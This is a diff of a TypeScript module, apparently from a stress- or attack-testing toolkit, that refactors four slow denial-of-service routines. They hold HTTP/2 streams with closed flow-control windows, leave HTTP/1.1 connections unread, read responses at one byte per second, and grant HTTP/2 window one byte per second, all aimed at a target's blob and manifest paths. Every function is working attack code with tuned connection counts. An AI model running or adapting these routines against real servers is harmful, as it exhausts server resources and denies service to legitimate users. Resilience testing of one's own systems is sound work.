@@ -1,97 +1,114 @@
 import { requestFor } from '../../raw-http/raw-http1.ts'
-import { type AttackTarget, type HoldOptions, hold, type Report, repeat } from '../attack.ts'
-import { Crowd } from '../crowd.ts'
+import { type AttackReport, type AttackTarget, type HoldOptions, hold, repeat } from '../attack.ts'
+import { ConnectionGroup } from '../connection-group.ts'
 
-const AT_ONCE = 32
+const CONCURRENCY = 32
 
-/** Which of the two is asked for. */
-export type Wanted = 'blob' | 'manifest'
+/** Which path of the target is requested. */
+export type RequestedContent = 'blob' | 'manifest'
 
-/** Streams whose windows never open, so that no byte of a body can be sent: 252 of them unless told otherwise. */
+/** Opens HTTP/2 streams whose windows stay closed, so that no byte of a body can be sent; 252 by default. */
 export async function stallStreams(
   target: AttackTarget,
-  options: HoldOptions & { wanted: Wanted; connections?: number; streams?: number; window?: number },
-): Promise<Report> {
-  const { connections = 2, streams = 126, window = 0, wanted, signal } = options
-  const crowd = new Crowd(target, signal)
+  options: HoldOptions & {
+    content: RequestedContent
+    connections?: number
+    streams?: number
+    window?: number
+  },
+): Promise<AttackReport> {
+  const { connections = 2, streams = 126, window = 0, content, signal } = options
+  const group = new ConnectionGroup(target, signal)
   try {
-    const { done, failed } = await repeat({ times: connections, atOnce: AT_ONCE, signal }, async () => {
-      const client = await crowd.http2({ window })
-      for (let i = 0; i < streams; i += 1) client.get(target[wanted])
-      await client.settled()
-    })
+    const { done, failed } = await repeat(
+      { times: connections, concurrency: CONCURRENCY, signal },
+      async () => {
+        const client = await group.openHttp2({ window })
+        for (let i = 0; i < streams; i += 1) client.get(target[content])
+        await client.settled()
+      },
+    )
     await hold(options)
-    return { done, failed, received: crowd.received }
+    return { done, failed, received: group.received }
   } finally {
-    crowd.close()
+    group.close()
   }
 }
 
-/** Connections of HTTP/1.1 that send a request and read nothing of the answer. */
+/** Opens HTTP/1.1 connections that send a request and read nothing of the answer. */
 export async function stallConnections(
   target: AttackTarget,
-  options: HoldOptions & { wanted: Wanted; connections?: number },
-): Promise<Report> {
-  const { connections = 120, wanted, signal } = options
-  const crowd = new Crowd(target, signal)
+  options: HoldOptions & { content: RequestedContent; connections?: number },
+): Promise<AttackReport> {
+  const { connections = 120, content, signal } = options
+  const group = new ConnectionGroup(target, signal)
   try {
-    const { done, failed } = await repeat({ times: connections, atOnce: AT_ONCE, signal }, async () => {
-      const socket = await crowd.socket('http/1.1')
-      await socket.send(requestFor(target[wanted]))
-    })
+    const { done, failed } = await repeat(
+      { times: connections, concurrency: CONCURRENCY, signal },
+      async () => {
+        const socket = await group.openSocket('http/1.1')
+        await socket.send(requestFor(target[content]))
+      },
+    )
     await hold(options)
     return { done, failed }
   } finally {
-    crowd.close()
+    group.close()
   }
 }
 
-/** How much is read, how often. */
-export interface Pace {
+/** How many bytes are read, and how often. */
+export interface ReadRate {
   readonly bytes: number
   readonly everyMs: number
 }
 
-const BYTE_A_SECOND: Pace = { bytes: 1, everyMs: 1000 }
+const ONE_BYTE_PER_SECOND: ReadRate = { bytes: 1, everyMs: 1000 }
 
-/** Connections of HTTP/1.1 that read so slowly. */
+/** Opens HTTP/1.1 connections that read their answers at a slow rate. */
 export async function readSlowly(
   target: AttackTarget,
-  options: HoldOptions & { wanted: Wanted; connections?: number; pace?: Pace },
-): Promise<Report> {
-  const { connections = 300, pace = BYTE_A_SECOND, wanted, signal } = options
-  const crowd = new Crowd(target, signal)
+  options: HoldOptions & { content: RequestedContent; connections?: number; rate?: ReadRate },
+): Promise<AttackReport> {
+  const { connections = 300, rate = ONE_BYTE_PER_SECOND, content, signal } = options
+  const group = new ConnectionGroup(target, signal)
   try {
-    const { done, failed } = await repeat({ times: connections, atOnce: AT_ONCE, signal }, async () => {
-      const socket = await crowd.socket('http/1.1')
-      await socket.send(requestFor(target[wanted]))
-      socket.readSlowly(pace)
-    })
+    const { done, failed } = await repeat(
+      { times: connections, concurrency: CONCURRENCY, signal },
+      async () => {
+        const socket = await group.openSocket('http/1.1')
+        await socket.send(requestFor(target[content]))
+        socket.readSlowly(rate)
+      },
+    )
     await hold(options)
-    return { done, failed, received: crowd.received }
+    return { done, failed, received: group.received }
   } finally {
-    crowd.close()
+    group.close()
   }
 }
 
-/** The same over HTTP/2: windows that are opened so slowly. */
-export async function grantSlowly(
+/** The same over HTTP/2, with windows that open at a slow rate. */
+export async function openWindowsSlowly(
   target: AttackTarget,
-  options: HoldOptions & { wanted: Wanted; connections?: number; pace?: Pace },
-): Promise<Report> {
-  const { connections = 32, pace = BYTE_A_SECOND, wanted, signal } = options
-  const crowd = new Crowd(target, signal)
+  options: HoldOptions & { content: RequestedContent; connections?: number; rate?: ReadRate },
+): Promise<AttackReport> {
+  const { connections = 32, rate = ONE_BYTE_PER_SECOND, content, signal } = options
+  const group = new ConnectionGroup(target, signal)
   const timers: NodeJS.Timeout[] = []
   try {
-    const { done, failed } = await repeat({ times: connections, atOnce: AT_ONCE, signal }, async () => {
-      const client = await crowd.http2({ window: 0 })
-      const stream = client.get(target[wanted])
-      timers.push(setInterval(() => void client.grant(stream, pace.bytes), pace.everyMs))
-    })
+    const { done, failed } = await repeat(
+      { times: connections, concurrency: CONCURRENCY, signal },
+      async () => {
+        const client = await group.openHttp2({ window: 0 })
+        const stream = client.get(target[content])
+        timers.push(setInterval(() => void client.grant(stream, rate.bytes), rate.everyMs))
+      },
+    )
     await hold(options)
-    return { done, failed, received: crowd.received }
+    return { done, failed, received: group.received }
   } finally {
     for (const timer of timers) clearInterval(timer)
-    crowd.close()
+    group.close()
   }
 }
